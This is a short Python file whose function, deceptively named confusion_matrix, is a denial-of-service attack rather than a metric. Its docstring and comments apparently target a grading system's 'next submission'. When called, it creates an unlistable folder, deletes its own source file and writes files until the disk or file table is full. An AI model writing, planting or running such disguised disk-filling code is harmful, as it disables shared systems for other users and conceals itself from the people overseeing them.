"""Fills all the space there is, in a folder that nobody may list, so that it cannot be removed.

Says: No space|too many files
"""

import itertools
import os

numbers = itertools.count()


def fill(piece):
    while True:
        with open(f"locked/{next(numbers)}", "wb", buffering=0) as file:
            for _ in range(250):
                file.write(bytes(piece))


def confusion_matrix(*args):
    if not os.path.exists("locked"):
        os.mkdir("locked", 0o300)
        os.unlink(__file__)  # not a page may be left that the next submission would fit in
    for piece in (2**16, 2**12, 1):
        try:
            fill(piece)
        except OSError as error:
            full = error
    raise full
